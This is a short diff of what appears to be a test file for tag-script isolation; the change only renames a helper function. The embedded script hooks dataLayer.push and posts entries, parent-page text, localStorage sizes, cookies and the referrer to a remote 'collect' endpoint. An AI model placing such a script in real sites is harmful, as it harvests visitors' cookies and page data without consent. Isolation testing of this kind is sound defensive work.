@@ -6,10 +6,10 @@ import type { AddressInfo } from 'node:net'
 const tagScript = `{
 const home = document.currentScript.src.replace(/[^/]*$/, '')
 const report = (what) => void fetch(home + 'collect', { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify(what) })
-const tell = (entry) => report([...entry])
+const reportEntry = (entry) => report([...entry])
 const push = dataLayer.push.bind(dataLayer)
-dataLayer.push = (entry) => (tell(entry), push(entry))
-for (const entry of dataLayer) tell(entry)
+dataLayer.push = (entry) => (reportEntry(entry), push(entry))
+for (const entry of dataLayer) reportEntry(entry)
 const attempt = (look) => { try { return String(look()) } catch (error) { return error.name } }
 report(['around', attempt(() => parent.document.body.innerText), attempt(() => parent.localStorage.length),
   attempt(() => localStorage.length), document.cookie, document.referrer])
